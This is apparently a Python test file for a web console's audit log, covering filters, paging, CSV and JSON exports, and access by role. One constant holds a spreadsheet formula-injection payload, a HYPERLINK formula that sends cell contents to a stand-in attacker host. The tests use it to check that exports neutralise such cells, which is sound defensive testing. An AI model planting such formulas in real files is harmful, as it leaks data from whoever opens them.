"""The audit log page: filters, paging, and exports that are safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson
import pytest
from fastapi import FastAPI

from sotong.domain import Role
from sotong.store import audit
from sotong.store.walls import get_wall
from sotong.web.console.audit_export import spreadsheet_safe
from tests.support import ConsoleUser, console_user, make_settings, running_app

EARLY = datetime(2017, 11, 10, 0, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"click")'


@pytest.fixture
async def app(database_url: str, tmp_path: Path) -> AsyncIterator[FastAPI]:
    settings = make_settings(database_url, tmp_path / "media")
    async with running_app(settings) as application:
        yield application


@pytest.fixture
async def owner(app: FastAPI) -> AsyncIterator[ConsoleUser]:
    async with console_user(app, Role.OWNER) as user:
        yield user


async def seed(app: FastAPI, entries: list[audit.AuditEntry]) -> None:
    async with app.state.services.db.write() as connection:
        for entry in entries:
            await audit.record(connection, entry)


async def wall_id(app: FastAPI, slug: str) -> int:
    async with app.state.services.db.read() as connection:
        wall = await get_wall(connection, slug)
    assert wall is not None
    return wall.id


def rows_of(page: str) -> list[str]:
    """The action of each row of the audit table, in order."""
    return re.findall(r"<td class=\"audit-action\"><code>([^<]+)</code></td>", page)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+82 10", "'+82 10"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\r=1", "'\r=1"),
        ("user:kim@example.org", "user:kim@example.org"),
        ("고연실 = 최고", "고연실 = 최고"),
        ("", ""),
    ],
)
def test_cells_that_start_a_formula_are_quoted(value: str, safe: str) -> None:
    assert spreadsheet_safe(value) == safe


async def test_filters_by_actor_action_wall_and_time(app: FastAPI, owner: ConsoleUser) -> None:
    seoul, other = await wall_id(app, "seoul2017"), await wall_id(app, "other")
    await seed(
        app,
        [
            audit.AuditEntry(EARLY, "user:kim@example.org", "post.approve", seoul, "P1"),
            audit.AuditEntry(
                EARLY + timedelta(hours=1), "user:lee@example.org", "post.reject", seoul
            ),
            audit.AuditEntry(
                EARLY + timedelta(hours=2), "user:kim@example.org", "author.ban", other
            ),
        ],
    )
    client = owner.client
    everything = (await client.get("/admin/audit")).text
    assert rows_of(everything)[:4] == ["author.ban", "post.reject", "post.approve", "login"]

    by_actor = (await client.get("/admin/audit?actor=user:kim@example.org")).text
    assert rows_of(by_actor) == ["author.ban", "post.approve"]
    by_action = (await client.get("/admin/audit?action=post.reject")).text
    assert rows_of(by_action) == ["post.reject"]
    by_wall = (await client.get("/admin/audit?wall=seoul2017")).text
    assert rows_of(by_wall) == ["post.reject", "post.approve"]
    window = await client.get(
        "/admin/audit", params={"since": "2017-11-10T00:30", "until": "2017-11-10T02:00"}
    )
    assert rows_of(window.text) == ["post.reject"]
    assert 'value="2017-11-10T00:30"' in window.text


@pytest.mark.parametrize("query", ["since=yesterday", "until=2017-13-40T00:00", "wall=nowhere"])
async def test_a_bad_filter_is_explained(owner: ConsoleUser, query: str) -> None:
    reply = await owner.client.get(f"/admin/audit?{query}")
    assert reply.status_code == 422
    assert 'role="alert"' in reply.text
    assert 'aria-invalid="true"' in reply.text
    exported = await owner.client.get(f"/admin/audit/export?format=csv&{query}")
    assert exported.status_code == 422
    assert exported.json()["error"]["code"] == "invalid_field"


async def test_pages_of_fifty(app: FastAPI, owner: ConsoleUser) -> None:
    await seed(
        app,
        [
            audit.AuditEntry(EARLY + timedelta(minutes=n), "user:x@example.org", f"step.{n:02d}")
            for n in range(60)
        ],
    )
    first = (await owner.client.get("/admin/audit?actor=user:x@example.org")).text
    assert len(rows_of(first)) == 50
    assert rows_of(first)[0] == "step.59"
    (older,) = re.findall(r'href="(/admin/audit\?[^"]+)" rel="next"', first)
    assert "actor=user%3Ax%40example.org" in older
    second = (await owner.client.get(older.replace("&amp;", "&"))).text
    assert rows_of(second) == [f"step.{n:02d}" for n in range(9, -1, -1)]
    assert 'rel="next"' not in second


async def test_csv_export_is_safe_in_a_spreadsheet_and_is_recorded(
    app: FastAPI, owner: ConsoleUser
) -> None:
    seoul = await wall_id(app, "seoul2017")
    await seed(
        app,
        [
            audit.AuditEntry(
                EARLY, HOSTILE, "-attack", seoul, "01J0000000000000000000000Z", {"author": "고연실"}
            )
        ],
    )
    reply = await owner.client.get("/admin/audit/export?format=csv&wall=seoul2017")
    assert reply.status_code == 200
    assert reply.headers["content-type"].startswith("text/csv")
    assert "attachment" in reply.headers["content-disposition"]
    text = reply.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["id", "at", "actor", "action", "wall", "post_id", "detail"]
    (row,) = rows[1:]
    assert row[2] == "'" + HOSTILE
    assert row[3] == "'-attack"
    assert row[4] == "seoul2017"
    assert orjson.loads(row[6]) == {"author": "고연실"}
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@"))
    async with app.state.services.db.read() as connection:
        (recorded,) = await audit.entries(connection, action="audit.export")
    assert recorded.actor == "user:owner@example.org"
    assert recorded.detail == {"format": "csv", "filters": {"wall": "seoul2017"}}


async def test_json_export_holds_every_matching_entry(app: FastAPI, owner: ConsoleUser) -> None:
    await seed(
        app,
        [
            audit.AuditEntry(EARLY + timedelta(seconds=n), "user:y@example.org", "bulk.step")
            for n in range(1205)
        ],
    )
    reply = await owner.client.get("/admin/audit/export?format=json&action=bulk.step")
    assert reply.status_code == 200
    entries = orjson.loads(reply.content)
    assert len(entries) == 1205
    assert entries[0]["at"] > entries[-1]["at"]
    assert set(entries[0]) == {"id", "at", "actor", "action", "wall", "post_id", "detail"}
    assert len({entry["id"] for entry in entries}) == 1205


async def test_an_unknown_export_format_is_refused(owner: ConsoleUser) -> None:
    reply = await owner.client.get("/admin/audit/export?format=xlsx")
    assert (reply.status_code, reply.json()["error"]["field"]) == (422, "format")


async def test_moderators_cannot_read_the_audit_log(app: FastAPI) -> None:
    async with console_user(app, Role.MODERATOR) as moderator:
        assert (await moderator.client.get("/admin/audit")).status_code == 403
        assert (await moderator.client.get("/admin/audit/export")).status_code == 403
        assert "/admin/audit" not in (await moderator.client.get("/admin/")).text
    async with console_user(app, Role.OWNER, "boss@example.org") as boss:
        assert 'href="/admin/audit"' in (await boss.client.get("/admin/")).text
